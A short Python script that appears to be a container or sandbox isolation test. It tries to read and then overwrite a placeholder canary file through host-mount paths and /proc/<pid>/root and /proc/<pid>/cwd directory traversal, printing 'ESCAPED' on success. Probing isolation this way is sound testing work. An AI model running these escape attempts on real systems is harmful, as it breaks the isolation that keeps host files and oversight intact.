import os

PATH = "@CANARY_FILE@"
ways = [PATH, f"/host{PATH}", f"/mnt{PATH}", f"/rootfs{PATH}", f"/proc/self/root/../../..{PATH}"]
for process in [name for name in os.listdir("/proc") if name.isdigit()]:
    ways += [f"/proc/{process}/root{PATH}", f"/proc/{process}/cwd/../../../../../..{PATH}"]
for way in ways:
    try:
        with open(way) as file:
            print("ESCAPED:", way, file.read())
    except OSError:
        pass
    try:
        with open(way, "w") as file:
            file.write("changed")
    except OSError:
        pass
print("attack ran")
